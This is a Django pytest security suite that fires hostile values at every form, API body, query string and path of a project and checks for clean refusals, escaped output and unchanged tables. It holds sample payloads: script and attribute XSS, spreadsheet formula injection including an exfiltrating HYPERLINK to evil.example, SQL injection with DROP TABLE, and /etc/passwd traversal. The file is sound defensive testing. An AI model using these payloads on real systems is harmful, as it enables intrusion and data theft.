"""Hostile values through every way in: each HTML form and API operation of the role ×
endpoint table (``tests/security/access*.py``: a new route is covered without a new line here),
and the query string of each page. The answer is a clear refusal or a normal page, never a 5xx
or a traceback; nothing sent is echoed unescaped into HTML; and no row of any table changes,
except for the few routes whose job is to keep the text as written (a message), where the text
is stored as sent and shown escaped.

The uploads' corpus is ``tests/hostile/`` (``test_hostile_uploads.py``); each case here is
counted in the summary of the test run (``tests/conftest.py``).
"""

from __future__ import annotations

import html
import importlib
import json
import pkgutil
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from django import forms
from django.apps import apps
from django.db import transaction
from django.http import HttpResponse
from django.test import Client

import jiha
from tests.hostile_tally import TALLY
from tests.security import access as foundation
from tests.security.access import Access
from tests.security.test_role_matrix import TABLE, World, _areas, _client, world

__all__ = ["world"]  # the role matrix's world: every placeholder of the table filled

pytestmark = pytest.mark.django_db

MARK = "jiha-hostile"
HOSTILE: dict[str, str] = {
    "script": f'<script>alert("{MARK}")</script>',
    "attribute": f'"><img src=x onerror=alert("{MARK}")>',
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sql": "' OR '1'='1'; DROP TABLE accounts_user; --",
    "traversal": "../../../../etc/passwd",
    "nul": "a\x00b",
    "rtl-override": "invoice\u202efdp.exe",
    "overlong": "x" * 100_000,
    "overlong-query": "y" * 2_000,
    "huge-float": "1e309",
    "huge-int": "1" + "0" * 400,
    "nan": "NaN",
    "negative": "-1",
    "date-feb-30": "2026-02-30",
    "date-year-0": "0000-01-01",
    "date-year-99999": "99999-12-31",
}
# Out of every number's or date's range (-1 is not: a KPI's baseline may be negative).
TYPED = (
    "huge-float",
    "huge-int",
    "nan",
    "date-feb-30",
    "date-year-0",
    "date-year-99999",
)
TYPED_VALUE = re.compile(r"-?\d+(\.\d+)?|\d{4}-\d{2}-\d{2}")
# Routes whose success is to keep what was written: the text is stored, then shown escaped
# (``test_a_stored_hostile_message_is_shown_escaped``).
KEEPS_TEXT = {"incentives:dossier_message", "api:dossier_message"}
# Buttons: the action reads no field of the body, so any body does it.
READS_NO_FIELD = {
    "competitiveness:build",
    "incentives:document_rescan",
    "incentives:payment_batch_approve",
    "incentives:payment_batch_pay",
    "api:incentives_payment_batch_approve",
    "api:incentives_payment_batch_pay",
    "programme:milestone_complete",
    "api:complete_milestone",
    "programme:factsheets_request",
    "api:factsheets_request",
    "reforms:recompute",
    "accounts:api_token_revoke",
    "api:talent_erase_me",  # the erasure the candidate asked for: the request itself
}
# Who sends each request: the first allowed persona in this order.
PREFERENCE = (
    "applicant_a",
    "reviewer",
    "administrator",
    "analyst",
    "officer",
    "provider",
    "candidate",
    "applicant_b",
    "anonymous",
)
# Tables that change on any request, hostile or not (sessions, login throttling).
VOLATILE = {"django_session"}
RAW_MARKUP = re.compile(rf'<script>alert\("{MARK}"\)|<img src=x onerror=alert\("{MARK}"\)')


def _persona(access: Access) -> str | None:
    return next((p for p in PREFERENCE if p in access.allowed), None)


def _counts() -> dict[str, int]:
    return {
        model._meta.db_table: model._default_manager.count()
        for model in apps.get_models()
        if model._meta.managed and model._meta.db_table not in VOLATILE
    }


class _Rollback(Exception):
    pass


@contextmanager
def _undone() -> Iterator[None]:
    """Whatever happens inside is rolled back: each case meets the same world."""
    try:
        with transaction.atomic():
            yield
            raise _Rollback
    except _Rollback:
        pass


def _is_html(response: HttpResponse) -> bool:
    return response.get("Content-Type", "").startswith("text/html")


def _judge(case: str, response: Any, changed: dict[str, tuple[int, int]]) -> list[str]:
    problems = []
    body = response.content.decode("utf-8", "replace") if hasattr(response, "content") else ""
    if response.status_code >= 500:
        problems.append(f"{case}: {response.status_code}")
    if "Traceback" in body:
        problems.append(f"{case}: a traceback in the answer")
    if _is_html(response) and RAW_MARKUP.search(body):
        problems.append(f"{case}: hostile markup echoed unescaped")
    if changed:
        problems.append(f"{case}: rows changed {changed}")
    return problems


def _changed(before: dict[str, int], after: dict[str, int]) -> dict[str, tuple[int, int]]:
    return {
        table: (before[table], after[table]) for table in before if before[table] != after[table]
    }


def _scalar_keys(data: dict[str, object]) -> list[str]:
    return [key for key, value in data.items() if not isinstance(value, (list, dict))]


def _bodies(access: Access) -> Iterator[tuple[str, dict[str, object]]]:
    """Each hostile value in every field at once: the request's own fields, and the names of
    every field of the project's forms (so a form's fields are reached even when the table's
    row sends none); then the bad numbers and dates in each number or date field of the row
    one at a time, the others valid, so that each field's own check is reached (in a text
    field, "1e309" is a valid text)."""
    keys = _scalar_keys(access.data)
    for label, value in HOSTILE.items():
        # The other forms' fields get the value cut short: a body of 200 long fields would
        # only meet the request size limit.
        extra = {} if access.json and keys else dict.fromkeys(FORM_FIELDS, value[:2000])
        yield f"*={label}", {**extra, **access.data, **dict.fromkeys(keys, value)}
    typed = [key for key in keys if TYPED_VALUE.fullmatch(str(access.data[key]))]
    if len(keys) > 1:
        for label in TYPED:
            for key in typed:
                yield f"{key}={label}", {**access.data, key: HOSTILE[label]}


def _form_fields() -> list[str]:
    """Every field name of every form class of the project."""
    for info in pkgutil.walk_packages(jiha.__path__, "jiha."):
        if info.name.endswith(".forms"):
            importlib.import_module(info.name)
    names: set[str] = set()
    pending: list[type] = [forms.BaseForm]
    while pending:
        cls = pending.pop()
        pending.extend(cls.__subclasses__())
        if cls.__module__.startswith("jiha."):
            names.update(getattr(cls, "base_fields", {}))
    return sorted(names)


FORM_FIELDS = _form_fields()
AREAS = {"foundation": foundation.ROWS} | {
    area.__name__.rsplit("_", 1)[-1]: area.ROWS for area in _areas()
}


def _routes(area: str, *, writes: bool) -> list[str]:
    """The routes of one area of the table that someone may use: its writes, or its reads."""
    return sorted(
        name
        for name, access in AREAS[area].items()
        if (access.method != "GET") == writes and _persona(access)
    )


def _post(client: Client, access: Access, path: str, body: dict[str, object]) -> Any:
    if access.json:
        return getattr(client, access.method.lower())(
            path, json.dumps(body), content_type="application/json", HTTP_ACCEPT_LANGUAGE="en"
        )
    data: dict[str, Any] = {key: value for key, value in body.items() if value is not None}
    return client.post(path, data, HTTP_ACCEPT_LANGUAGE="en")


@pytest.mark.parametrize("area", sorted(AREAS))
def test_each_form_and_api_body_refuses_hostile_values_and_changes_nothing(
    world: World, area: str
) -> None:
    problems = [
        problem for name in _routes(area, writes=True) for problem in _write_problems(world, name)
    ]
    assert not problems, "\n".join(problems[:60])


def _write_problems(world: World, name: str) -> list[str]:
    access = TABLE[name]
    persona = _persona(access)
    assert persona is not None
    client = _client(world, persona)
    path = access.path.format(**world.values)
    problems: list[str] = []
    for case, body in _bodies(access):
        world.reset_cache()
        with _undone():
            before = _counts()
            response = _post(client, access, path, body)
            changed = {} if name in KEEPS_TEXT | READS_NO_FIELD else _changed(before, _counts())
            found = _judge(case, response, changed)
        TALLY.record(
            "forms and API bodies",
            refused=400 <= response.status_code < 500,
            changed=bool(changed),
            failed=bool(found),
        )
        problems.extend(f"{name} {access.method} {path} {problem}" for problem in found)
    if problems:
        print("\n".join(problems), flush=True)  # seen at once with -s: the run is long
    return problems


def _query_names() -> list[str]:
    """Query parameters read by the pages (from the code) and by the API (from its schema),
    and the fields of every form (a form bound to the query string)."""
    names = set(FORM_FIELDS) | {"page", "q", "next", "lang", "format", "sort", "limit", "cursor"}
    for source in Path(jiha.__path__[0]).rglob("*.py"):
        names.update(re.findall(r'GET\.get(?:list)?\(\s*"(\w+)"', source.read_text()))
    from jiha.config.api import api

    for operations in api.get_openapi_schema()["paths"].values():
        for operation in operations.values():
            names.update(
                parameter["name"]
                for parameter in operation.get("parameters", [])
                if parameter.get("in") == "query"
            )
    return sorted(names)


QUERY_NAMES = _query_names()
# Fewer values than for bodies (a page is dearer than a refused body): those that reach each
# kind of parameter (text, number, date) and the echo.
QUERY_CASES = {
    label: HOSTILE[label]
    for label in (
        "script",
        "attribute",
        "sql",
        "overlong-query",
        "huge-float",
        "huge-int",
        "date-feb-30",
        "nul",
    )
}
PAGE_STATUSES = {200, 302, 400, 404, 422}


@pytest.mark.parametrize("area", sorted(AREAS))
def test_each_page_answers_hostile_query_strings_clearly(world: World, area: str) -> None:
    problems = [
        problem for name in _routes(area, writes=False) for problem in _page_problems(world, name)
    ]
    assert not problems, "\n".join(problems[:60])


def _page_problems(world: World, name: str) -> list[str]:
    access = TABLE[name]
    persona = _persona(access)
    assert persona is not None
    client = _client(world, persona)
    path = access.path.format(**world.values)
    problems: list[str] = []
    # A page may refuse for a reason of its own, whatever the query says (exporting a payment
    # batch not yet approved: 409); that same answer to a hostile query is right too.
    world.reset_cache()
    with _undone():
        usual = client.get(path, HTTP_ACCEPT_LANGUAGE="en").status_code
    for label, value in QUERY_CASES.items():
        world.reset_cache()
        query = urlencode(dict.fromkeys(QUERY_NAMES, value))
        with _undone():
            before = _counts()
            response = client.get(f"{path}?{query}", HTTP_ACCEPT_LANGUAGE="en")
            changed = _changed(before, _counts())
            found = _judge(label, response, changed)
        if response.status_code not in PAGE_STATUSES and response.status_code != usual:
            found.append(f"{label}: answered {response.status_code}")
        TALLY.record(
            "query strings",
            refused=400 <= response.status_code < 500,
            changed=bool(changed),
            failed=bool(found),
        )
        problems.extend(f"{name} GET {path} {problem}" for problem in found)
    if problems:
        print("\n".join(problems), flush=True)  # seen at once with -s: the run is long
    return problems


# --- Bodies no form would send: the raw bytes of a JSON request ------------------------------

# (UTF-16 with its byte-order mark is not here: JSON readers may accept it, RFC 8259 §8.1, and
# Python's does: the same object, read correctly, is not a hostile body.)
RAW_BODIES = {
    "not-utf-8": b'\xff\xfe{"version": 1}',
    "latin-1": '{"body": "caf\xe9"}'.encode("latin-1"),
    "huge-float": b'{"version": 1e309, "amount": 1e309}',
    "huge-int": b'{"version": 1' + b"0" * 400 + b"}",
    "nan": b'{"version": NaN, "amount": Infinity}',
    "deep": b"[" * 100_000 + b"]" * 100_000,
    "duplicate-keys": b'{"version": 1, "version": "x"}',
    "lone-surrogate": b'{"body": "\\udcff", "name": "\\ud800"}',
    "nul-escape": b'{"body": "a\\u0000b", "name": "\\u0000"}',
    "empty": b"",
    "not-an-object": b'"<script>alert(1)</script>"',
}
# Buttons read no body, so any body does their action (READS_NO_FIELD): not bodies to refuse.
JSON_WRITES = sorted(
    name
    for name, access in TABLE.items()
    if access.json and access.method != "GET" and name not in READS_NO_FIELD
)


def test_each_api_body_refuses_malformed_json_and_changes_nothing(world: World) -> None:
    problems: list[str] = []
    for name in JSON_WRITES:
        access = TABLE[name]
        persona = _persona(access)
        if persona is None:
            continue
        client = _client(world, persona)
        path = access.path.format(**world.values)
        for label, raw in RAW_BODIES.items():
            world.reset_cache()
            with _undone():
                before = _counts()
                response = getattr(client, access.method.lower())(
                    path, raw, content_type="application/json", HTTP_ACCEPT_LANGUAGE="en"
                )
                changed = _changed(before, _counts())
                found = _judge(label, response, changed)
            if not 400 <= response.status_code < 500:
                found.append(f"{label}: answered {response.status_code}, not a refusal")
            TALLY.record(
                "raw API bodies",
                refused=400 <= response.status_code < 500,
                changed=bool(changed),
                failed=bool(found),
            )
            problems.extend(f"{name} {path} {problem}" for problem in found)
    assert not problems, "\n".join(problems[:60])


# --- Hostile path segments: the "not found" page names nothing unescaped ---------------------

HOSTILE_PATHS = (
    "/en/regions/%3Cscript%3Ealert(%22jiha-hostile%22)%3C%2Fscript%3E/",
    "/en/incentives/parameters/%22%3E%3Cimg%20src=x%20onerror=alert(%22jiha-hostile%22)%3E/",
    "/en/incentives/verify/%3Cscript%3Ealert(%22jiha-hostile%22)%3C%2Fscript%3E/",
    "/en/incentives/schemes/..%2F..%2F..%2Fetc%2Fpasswd/",
    "/en/observatory/datasets/target/download.%3Cscript%3E",
    "/api/regions/%3Cscript%3Ealert(%22jiha-hostile%22)%3C%2Fscript%3E",
    "/api/incentives/parameters/'%20OR%20'1'='1",
    "/api/competitiveness/editions/1" + "0" * 400,
)


@pytest.mark.parametrize("path", HOSTILE_PATHS)
def test_a_hostile_path_answers_not_found_and_echoes_nothing(
    client: Client, reference: None, path: str
) -> None:
    before = _counts()

    response = client.get(path)

    assert response.status_code in (400, 404), response.status_code
    body = response.content.decode()
    assert not RAW_MARKUP.search(body) and "Traceback" not in body
    assert _changed(before, _counts()) == {}
    TALLY.record("paths", refused=True, changed=False)


# --- Text kept as written, shown escaped ----------------------------------------------------


@pytest.mark.parametrize("value", ["script", "attribute", "formula", "rtl-override"])
def test_a_stored_hostile_message_is_shown_escaped(world: World, value: str) -> None:
    dossier = world.values["submitted"]
    applicant = _client(world, "applicant_a")
    text = HOSTILE[value]

    sent = applicant.post(f"/en/incentives/dossiers/{dossier}/messages/", {"body": text})

    assert sent.status_code == 302
    reviewer = _client(world, "reviewer")
    for client, page in (
        (applicant, f"/en/incentives/dossiers/{dossier}/"),
        (reviewer, f"/en/incentives/review/{dossier}/"),
    ):
        body = client.get(page).content.decode()
        assert not RAW_MARKUP.search(body), page
        assert html.escape(text, quote=False) in body or html.escape(text) in body, page
    TALLY.record("stored then shown", refused=False, changed=False)


def test_an_unreadable_json_body_is_refused_in_the_user_s_language(client: Client) -> None:
    response = client.post(
        "/api/incentives/simulate",
        b"[" * 100_000,
        content_type="application/json",
        HTTP_ACCEPT_LANGUAGE="fr",
    )

    assert response.status_code == 400
    assert response.json() == {
        "code": "malformed_body",
        "message": "Le corps de la requête est illisible : envoyez un objet JSON encodé en UTF-8.",
    }
